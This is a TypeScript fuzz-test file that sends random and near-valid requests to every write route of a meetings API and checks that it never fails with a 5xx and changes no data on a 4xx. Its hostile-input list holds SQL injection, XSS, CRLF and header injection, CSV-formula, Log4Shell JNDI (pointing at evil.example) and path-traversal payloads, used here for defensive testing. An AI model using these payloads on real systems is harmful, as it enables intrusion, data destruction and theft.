import { createHash } from 'node:crypto';
import fc from 'fast-check';
import type { NestFastifyApplication } from '@nestjs/platform-fastify';
import { DataSource } from 'typeorm';
import { Webhook } from 'standardwebhooks';
import { Queue } from 'bullmq';
import { SERVICE_NAMES, type QueueServiceName } from '@jcg/contracts';
import { eventQueueName, redisOptionsFromUrl } from '@jcg/messaging';
import { createTestEnvironment, type TestEnvironment } from '@jcg/testing';
import { Http, createKey, type HttpResult } from '../support/http';
import { MembershipCast } from '../support/membership-cast';
import { TestSystem } from '../support/test-system';

/**
 * Property-based fuzzing (fast-check) of every write route the API documents (POST, PUT, PATCH
 * and DELETE under /v1, read from /docs-json so a new route is fuzzed without being listed) and
 * of TSB's inbound webhook: arbitrary bodies (near-valid ones built from the route's own request
 * schema, wrong types, huge and hostile strings, unicode, nulls, unknown fields, nested junk,
 * malformed JSON), query strings and path parameters, sent with the keys of every role.
 * Properties: never a 5xx; every 4xx is application/problem+json with the RFC 9457 fields; and
 * a 4xx changes no row of any table of the test's database.
 */

const RUNS_PER_ROUTE = 20;
const TSB_SECRET = 'whsec_' + Buffer.from('fuzz-inbound-secret-0123456789ab').toString('base64');
const SOME_UUID = '00000000-0000-7000-8000-000000000000';
const DAY = 24 * 3600_000;
const inDays = (days: number) => new Date(Date.now() + days * DAY).toISOString();

type Schema = Record<string, unknown>;
type Method = 'POST' | 'PUT' | 'PATCH' | 'DELETE';
interface Operation {
  parameters?: { name: string; in: string; schema?: Schema }[];
  requestBody?: { content?: Record<string, { schema?: Schema }> };
}
interface Document {
  paths: Record<string, Record<string, Operation>>;
  components: { schemas: Record<string, Schema> };
}
interface Route {
  name: string;
  method: Method;
  path: string;
  operation: Operation;
}
type Role = 'admin' | 'convenor' | 'tsb' | 'participant' | 'none';
interface FuzzRequest {
  path: string;
  query: string;
  role: Role;
  body: { kind: 'json'; value: unknown } | { kind: 'raw'; text: string } | { kind: 'none' };
  idempotencyKey: string | null;
  /** For the inbound webhook: sign the body as TSB does (otherwise junk headers). */
  signature: 'tsb' | 'junk' | 'none';
}

/** Strings that have broken other systems: SQL, CRLF and header injection, iCalendar, CSV formulas, HTML. */
const HOSTILE = [
  "'; DROP TABLE membership.groups; --",
  "Robert'); DELETE FROM reporting.work_items; --",
  'x\r\nBEGIN:VEVENT\r\nSUMMARY:injected\r\nEND:VEVENT',
  'Subject\r\nBcc: victim@example.org',
  '=HYPERLINK("http://evil.example","click")',
  "+cmd|' /C calc'!A0",
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '${jndi:ldap://evil.example/a}',
  '../../../../etc/passwd',
  '\u0000',
  '\uD800',
  '\u202Egnp.exe',
  '__proto__',
  'constructor',
  ' ',
  '',
];

const hostileString = fc.constantFrom(...HOSTILE);
const hugeString = fc
  .tuple(fc.integer({ min: 1_000, max: 300_000 }), fc.constantFrom('x', 'é', '𝕏', '\r\n'))
  .map(([n, c]) => c.repeat(n));
const anyString = fc.oneof(
  { weight: 3, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 2, arbitrary: hostileString },
  { weight: 1, arbitrary: hugeString },
  { weight: 1, arbitrary: fc.uuid() },
  { weight: 1, arbitrary: fc.date({ noInvalidDate: true }).map((d) => d.toISOString()) },
);
const scalar = fc.oneof(
  anyString,
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.constantFrom(null, true, false, 0, -1, 2 ** 53 + 1, 1e308, -0),
);
const junk: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', maxDepth: 4 },
    scalar,
    fc.array(tie('value'), { maxLength: 4 }),
    fc.dictionary(fc.oneof(fc.string({ maxLength: 12 }), hostileString), tie('value'), { maxKeys: 4 }),
  ),
})).value;

/** Query strings: none, a few arbitrary pairs, or malformed ones. */
const query = fc.oneof(
  { weight: 3, arbitrary: fc.constant('') },
  {
    weight: 2,
    arbitrary: fc
      .dictionary(fc.string({ minLength: 1, maxLength: 12 }), fc.oneof(anyString.filter((s) => s.length < 5000)), {
        minKeys: 1,
        maxKeys: 4,
      })
      .map((pairs) => `?${new URLSearchParams(pairs).toString()}`),
  },
  { weight: 1, arbitrary: fc.constantFrom('?%zz', '?a[]=1&a[]=2&a=3', '?=&&=', '?limit=-1&cursor=%00', '?a=%E0%A4%A') },
);

/** Percent-encodes a path segment (a lone surrogate becomes U+FFFD, as in UTF-8 it must). */
const encodeSegment = (text: string) =>
  [...Buffer.from(text, 'utf8')]
    .map((b) =>
      /[A-Za-z0-9_.~-]/.test(String.fromCharCode(b)) ? String.fromCharCode(b) : `%${b.toString(16).padStart(2, '0')}`,
    )
    .join('');

/** A fixed seed per route, so adding a route does not change the inputs of the others. */
const seedOf = (route: string) => createHash('sha256').update(route).digest().readInt32BE(0);

/** Standard Webhooks headers for a body, signed with TSB's secret. */
function tsbSignature(body: string): Record<string, string> {
  const id = `evt_${Math.random().toString(36).slice(2)}`;
  const at = new Date();
  return {
    'webhook-id': id,
    'webhook-timestamp': String(Math.floor(at.getTime() / 1000)),
    'webhook-signature': new Webhook(TSB_SECRET).sign(id, at, body),
  };
}

describe('fuzzing every write route and the inbound webhook (fast-check)', () => {
  let env: TestEnvironment;
  let system: TestSystem;
  let membership: NestFastifyApplication;
  let cast: MembershipCast;
  let document: Document;
  const keys = {} as Record<Exclude<Role, 'none'>, string>;
  /** The value of each path parameter that names something that exists. */
  const known: Record<string, string> = {};

  beforeAll(async () => {
    env = await createTestEnvironment('fuzz');
    system = new TestSystem(env);
    membership = await system.start('membership');
    await system.start('meetings');
    await system.start('agenda');
    await system.start('reporting');
    // One attempt per webhook message, no retry: nothing changes rows seconds after the request that caused it.
    await system.start('notifications', {
      extra: { webhooks: { allowLoopback: true, inboundSecrets: [TSB_SECRET], retryScheduleMs: [0], jitter: 0 } },
    });
    const api = await system.start('api');
    cast = new MembershipCast(Http.of(api), await createKey(membership, { kind: 'admin' }));
    const scene = await cast.scene();
    keys.admin = cast.adminKey;
    keys.convenor = scene.convenorKey;
    keys.participant = scene.participantKey;
    keys.tsb = await cast.key({ kind: 'integrator', integrator: 'tsb' });
    const meeting = await cast.http.post<{ id: string }>(
      `/v1/groups/${scene.group.id}/meetings`,
      { title: 'Fuzzed', startsAt: inDays(30), endsAt: new Date(Date.now() + 30 * DAY + 3600_000).toISOString() },
      scene.convenorKey,
    );
    if (meeting.status !== 201) throw new Error(meeting.text);
    const endpoint = await cast.http.post<{ endpoint: { id: string } }>(
      '/v1/webhooks/endpoints',
      { url: 'http://127.0.0.1:9/hook', eventTypes: ['report.acknowledged'], contactEmail: 'tsb@itu.example' },
      keys.tsb,
    );
    if (endpoint.status !== 201) throw new Error(endpoint.text);
    Object.assign(known, {
      groupId: scene.group.id,
      meetingId: meeting.body.id,
      participantId: scene.participant.id,
      organizationId: scene.organization.id,
      endpointId: endpoint.body.endpoint.id,
      reference: 'SG17-FUZZ',
      key: 'pki',
      topicKey: 'pki',
      objective: 'a',
    });
    document = (await cast.http.get<Document>('/docs-json')).body;
    await settled();
  }, 120_000);

  afterAll(async () => {
    await system.stopAll();
    await env.cleanup();
  });

  /**
   * Tables left out of the fingerprint, and why: idempotency keys keep the answer to a POST with
   * an Idempotency-Key, a refusal included (so a retry gets the same 4xx); that is a cache of
   * answers, not a change the request made.
   */
  const IGNORED_TABLES = new Set(['api.idempotency_keys']);
  /** Columns that change on their own: the relay marks events published; a key in use records when. */
  const MOVING_COLUMNS: Record<string, string[]> = {
    outbox: ['published_at', 'published_epoch'],
    api_keys: ['last_used_at'],
  };
  let fingerprintQuery: string | undefined;

  /** One row per table of every service's schema: its row count and a hash of its rows. */
  async function fingerprint(): Promise<string> {
    const db = membership.get(DataSource);
    if (!fingerprintQuery) {
      const tables = await db.query<{ table_schema: string; table_name: string }[]>(
        `SELECT table_schema, table_name FROM information_schema.tables
          WHERE table_type = 'BASE TABLE' AND table_schema NOT IN ('pg_catalog', 'information_schema')
          ORDER BY 1, 2`,
      );
      const parts = tables
        .filter((t) => !IGNORED_TABLES.has(`${t.table_schema}.${t.table_name}`))
        .filter((t) => !/^(migrations|typeorm_metadata)$/.test(t.table_name))
        .map(({ table_schema, table_name }) => {
          const moving = (MOVING_COLUMNS[table_name] ?? []).map((c) => ` - '${c}'`).join('');
          return `SELECT '${table_schema}.${table_name}' AS t, count(*) AS n,
            md5(coalesce(string_agg((to_jsonb(x)${moving})::text, '|' ORDER BY (to_jsonb(x)${moving})::text), '')) AS h
            FROM "${table_schema}"."${table_name}" x`;
        });
      if (parts.length < 20) throw new Error(`Only ${parts.length} tables found: is the database migrated?`);
      fingerprintQuery = parts.join('\nUNION ALL\n') + '\nORDER BY 1';
    }
    const rows = await db.query<{ t: string; n: string; h: string }[]>(fingerprintQuery);
    return rows.map((r) => `${r.t}=${r.n}:${r.h}`).join('\n');
  }

  /** Outbox rows not yet published, timers due, webhook messages to send and events not yet handled, in every service. */
  async function inFlight(): Promise<number> {
    const db = membership.get(DataSource);
    const services = SERVICE_NAMES.filter((s): s is QueueServiceName => s !== 'api');
    const [{ n }] = await db.query<{ n: string }[]>(
      services
        .flatMap((s) => [
          `(SELECT count(*) FROM ${s}.outbox WHERE published_at IS NULL AND set_aside_at IS NULL)`,
          `(SELECT count(*) FROM ${s}.timers WHERE status = 'firing' OR (status = 'scheduled' AND due_at <= now()))`,
        ])
        .concat(`(SELECT count(*) FROM notifications.webhook_messages WHERE status = 'pending' AND NOT replaying)`)
        .join(' + ')
        .replace(/^/, 'SELECT ') + ' AS n',
    );
    let pending = Number(n);
    const queues = services.map(
      (s) => new Queue(eventQueueName(s), { connection: redisOptionsFromUrl(env.redisUrl), prefix: env.queuePrefix }),
    );
    try {
      for (const queue of queues) {
        const counts = await queue.getJobCounts('waiting', 'active', 'delayed');
        pending += counts.waiting + counts.active + counts.delayed;
      }
    } finally {
      await Promise.all(queues.map((q) => q.close()));
    }
    return pending;
  }

  /**
   * Waits until what an accepted request set off (events, copies in other services) has come to
   * rest: nothing left in any outbox or event queue, and the fingerprint the same twice in a row.
   */
  async function settled(): Promise<string> {
    let last = '';
    for (let i = 0; i < 60; i++) {
      if ((await inFlight()) === 0) {
        const now = await fingerprint();
        if (now === last) return now;
        last = now;
      }
      await new Promise((resolve) => setTimeout(resolve, 200));
    }
    throw new Error('The system kept working for 12 s after an accepted request');
  }

  function writeRoutes(): Route[] {
    return Object.entries(document.paths)
      .flatMap(([path, operations]) =>
        Object.entries(operations).map(([method, operation]) => ({
          name: `${method.toUpperCase()} ${path}`,
          method: method.toUpperCase() as Method,
          path,
          operation,
        })),
      )
      .filter((r) => /^(POST|PUT|PATCH|DELETE) \/v1\//.test(r.name))
      .sort((a, b) => a.name.localeCompare(b.name));
  }

  const resolve = (schema: Schema | undefined): Schema | undefined =>
    typeof schema?.$ref === 'string' ? document.components.schemas[schema.$ref.split('/').pop() ?? ''] : schema;

  /** A value that respects a schema as far as a fuzzer cares: right type, around its limits, enums, ids. */
  function nearValid(raw: Schema | undefined, depth = 0): fc.Arbitrary<unknown> {
    const schema = resolve(raw);
    if (!schema || depth > 5) return junk;
    const members = (schema.anyOf ?? schema.oneOf) as Schema[] | undefined;
    if (members) return fc.oneof(...members.map((m) => nearValid(m, depth + 1)));
    if (schema.enum) return fc.constantFrom(...(schema.enum as unknown[]));
    if (schema.const !== undefined) return fc.constant(schema.const);
    const type = ([] as unknown[]).concat(schema.type ?? [])[0];
    switch (type) {
      case 'string': {
        if (schema.format === 'uuid') return fc.constantFrom(...Object.values(known).slice(0, 5), SOME_UUID);
        if (schema.format === 'date-time') return fc.integer({ min: -400, max: 400 }).map((d) => inDays(d));
        if (schema.format === 'date') return fc.integer({ min: -400, max: 400 }).map((d) => inDays(d).slice(0, 10));
        if (schema.format === 'email') return fc.constantFrom('ana@example.org', 'x@[127.0.0.1]', 'a"b@example.org');
        const max = typeof schema.maxLength === 'number' ? schema.maxLength : 100;
        return fc.oneof(
          fc.string({ unit: 'grapheme', minLength: 1, maxLength: Math.min(max, 30) }),
          hostileString,
          fc.constant('y'.repeat(max + 1)),
          fc.constantFrom('SG17', 'TSAG', 'https://example.org/a', 'X.1361', 'Europe/Zurich', 'mymeetings', 'a'),
        );
      }
      case 'integer':
      case 'number': {
        const min = typeof schema.minimum === 'number' ? schema.minimum : -1000;
        const max = typeof schema.maximum === 'number' ? schema.maximum : 1000;
        return fc.oneof(fc.integer({ min, max }), fc.constantFrom(min - 1, max + 1, 1.5));
      }
      case 'boolean':
        return fc.boolean();
      case 'array': {
        const max = typeof schema.maxItems === 'number' ? schema.maxItems : 5;
        const item = nearValid(schema.items as Schema, depth + 1);
        return fc.oneof(
          { weight: 4, arbitrary: fc.array(item, { maxLength: Math.min(max, 4) }) },
          { weight: 1, arbitrary: fc.array(item, { minLength: max + 1, maxLength: max + 1 }) },
        );
      }
      case 'object': {
        const properties = (schema.properties ?? {}) as Record<string, Schema>;
        const shape = Object.fromEntries(Object.entries(properties).map(([k, v]) => [k, nearValid(v, depth + 1)]));
        return fc.record(shape, { requiredKeys: (schema.required as string[] | undefined) ?? [] });
      }
      default:
        return junk;
    }
  }

  /** Bodies: near-valid, near-valid with one field spoiled or an unknown one, any JSON, malformed or deep text. */
  function bodies(route: Route): fc.Arbitrary<FuzzRequest['body']> {
    const schema = resolve(route.operation.requestBody?.content?.['application/json']?.schema);
    const valid = nearValid(schema);
    const fields = Object.keys((resolve(schema)?.properties as Schema | undefined) ?? {});
    const spoiled = fc
      .tuple(valid, fc.constantFrom(...fields, 'unexpected', '__proto__', 'constructor'), junk)
      .map(([body, field, value]) =>
        typeof body === 'object' && body !== null && !Array.isArray(body)
          ? JSON.parse(
              `{${[...Object.entries(body), [field, value]].map(([k, v]) => `${JSON.stringify(k)}:${JSON.stringify(v) ?? 'null'}`).join(',')}}`,
            )
          : body,
      );
    return fc.oneof(
      { weight: schema ? 4 : 1, arbitrary: valid.map((value) => ({ kind: 'json' as const, value })) },
      { weight: schema ? 4 : 1, arbitrary: spoiled.map((value) => ({ kind: 'json' as const, value })) },
      { weight: 2, arbitrary: junk.map((value) => ({ kind: 'json' as const, value })) },
      {
        weight: 1,
        arbitrary: fc
          .oneof(
            fc.string({ unit: 'binary', maxLength: 60 }),
            fc.constantFrom('{"a":', '{"__proto__":{"admin":true}}', '{"constructor":{"prototype":{}}}', '[1,]', 'nul'),
            fc.integer({ min: 33, max: 5000 }).map((n) => '['.repeat(n) + ']'.repeat(n)),
          )
          .map((text) => ({ kind: 'raw' as const, text })),
      },
      { weight: 1, arbitrary: fc.constant({ kind: 'none' as const }) },
    );
  }

  /** Path parameters: mostly ones that exist, else arbitrary text (encoded) or raw junk segments. */
  function paths(route: Route): fc.Arbitrary<string> {
    const names = [...route.path.matchAll(/\{(\w+)\}/g)].map((m) => m[1]);
    const value = (name: string) =>
      fc.oneof(
        { weight: 6, arbitrary: fc.constant(encodeSegment(known[name] ?? SOME_UUID)) },
        { weight: 2, arbitrary: anyString.filter((s) => s.length < 3000).map(encodeSegment) },
        { weight: 1, arbitrary: fc.constantFrom('%zz', '%00', '..', '%2e%2e', '%2F', 'a%0d%0aSet-Cookie:x=1', ' ') },
      );
    return fc
      .tuple(...names.map(value))
      .map((values) => names.reduce((p, name, i) => p.replace(`{${name}}`, values[i]), route.path));
  }

  function requests(route: Route): fc.Arbitrary<FuzzRequest> {
    return fc.record({
      path: paths(route),
      query,
      role: fc.oneof(
        { weight: 3, arbitrary: fc.constant<Role>('admin') },
        { weight: 3, arbitrary: fc.constant<Role>('convenor') },
        { weight: 2, arbitrary: fc.constant<Role>('tsb') },
        { weight: 1, arbitrary: fc.constantFrom<Role>('participant', 'none') },
      ),
      body: bodies(route),
      idempotencyKey: fc.option(fc.string({ unit: 'grapheme-ascii', minLength: 1, maxLength: 40 }), { freq: 5 }),
      signature: fc.oneof(
        { weight: 6, arbitrary: fc.constant<'tsb'>('tsb') },
        { weight: 1, arbitrary: fc.constantFrom<'junk' | 'none'>('junk', 'none') },
      ),
    });
  }

  async function send(route: Route, request: FuzzRequest): Promise<HttpResult> {
    const text =
      request.body.kind === 'json'
        ? (JSON.stringify(request.body.value) ?? 'null')
        : request.body.kind === 'raw'
          ? request.body.text
          : undefined;
    const headers: Record<string, string> = {};
    if (request.idempotencyKey) headers['idempotency-key'] = request.idempotencyKey;
    if (route.name === 'POST /v1/webhooks/tsb') {
      if (request.signature === 'tsb') Object.assign(headers, tsbSignature(text ?? ''));
      if (request.signature === 'junk')
        Object.assign(headers, { 'webhook-id': 'evt_x', 'webhook-timestamp': '1', 'webhook-signature': 'v1,AAAA' });
    }
    return cast.http.call(route.method, `${request.path}${request.query}`, {
      key: request.role === 'none' ? undefined : keys[request.role],
      ...(text === undefined ? {} : { rawBody: text }),
      headers,
    });
  }

  /** What is wrong with an answer (nothing: null). */
  function problemWith(result: HttpResult): string | null {
    if (result.status >= 500) return `answered ${result.status}: ${result.text.slice(0, 300)}`;
    if (result.status < 400) return null;
    if (!/^application\/problem\+json/.test(result.contentType))
      return `a ${result.status} as ${result.contentType || 'no content type'}: ${result.text.slice(0, 300)}`;
    const body = result.body as Record<string, unknown>;
    const fields = ['type', 'title', 'detail'].filter((f) => typeof body?.[f] !== 'string');
    if (fields.length > 0 || body.status !== result.status)
      return `a ${result.status} problem without ${fields.join(', ') || 'its status'}: ${result.text.slice(0, 300)}`;
    return null;
  }

  it('covers every write route the API documents', () => {
    const routes = writeRoutes().map((r) => r.name);
    expect(routes.length).toBeGreaterThanOrEqual(45);
    expect(routes).toEqual(expect.arrayContaining(['POST /v1/webhooks/tsb', 'POST /v1/groups/{groupId}/meetings']));
  });

  it('answers a malformed URL and an over-long path parameter, which the router refuses, as problems', async () => {
    const badUrl = await cast.http.call('POST', `/v1/groups/%zz/meetings`, { key: keys.admin, body: {} });
    expect(badUrl.status).toBe(400);
    expect(problemWith(badUrl)).toBeNull();
    expect(badUrl.body).toMatchObject({ code: 'BAD_REQUEST', instance: '/v1/groups/%zz/meetings' });
    // A correlation id like every other answer's, in the header and the problem.
    expect(badUrl.headers.get('x-correlation-id')).toMatch(/^[\w.:-]+$/);
    expect((badUrl.body as { correlationId: string }).correlationId).toBe(badUrl.headers.get('x-correlation-id'));
    const long = await cast.http.call('DELETE', `/v1/body-meetings/${'x'.repeat(1001)}`, { key: keys.admin });
    expect(long.status).toBe(414);
    expect(problemWith(long)).toBeNull();
    expect(long.body).toMatchObject({ code: 'URI_TOO_LONG', correlationId: long.headers.get('x-correlation-id') });
    expect(long.headers.get('x-content-type-options')).toBe('nosniff');
  });

  it('never answers 5xx, answers every 4xx as a problem, and stores nothing on a 4xx', async () => {
    const failures: string[] = [];
    const statuses: Record<string, Record<number, number>> = {};
    let baseline = await settled();
    for (const route of writeRoutes()) {
      statuses[route.name] = {};
      const outcome = await fc.check(
        fc.asyncProperty(requests(route), async (request) => {
          const result = await send(route, request);
          statuses[route.name][result.status] = (statuses[route.name][result.status] ?? 0) + 1;
          const wrong = problemWith(result);
          if (wrong) throw new Error(wrong);
          if (result.status >= 400) {
            const after = await fingerprint();
            if (after !== baseline) {
              const changed = after.split('\n').filter((line) => !baseline.split('\n').includes(line));
              baseline = await settled();
              throw new Error(`a ${result.status} changed ${changed.join(', ')}`);
            }
          } else baseline = await settled();
        }),
        { seed: seedOf(route.name), numRuns: RUNS_PER_ROUTE, endOnFailure: true },
      );
      if (outcome.failed) {
        const request = JSON.stringify(outcome.counterexample?.[0]).slice(0, 600);
        failures.push(`${route.name} (seed ${outcome.seed}): ${String(outcome.errorInstance)} for ${request}`);
      }
    }
    expect(failures).toEqual([]);
    // Every route's validation was reached (a 400), so the runs were not all stopped at the door.
    const neverValidated = Object.entries(statuses)
      .filter(([, counts]) => !counts[400])
      .map(([name, counts]) => `${name} ${JSON.stringify(counts)}`);
    expect(neverValidated).toEqual([]);
  }, 300_000);
});
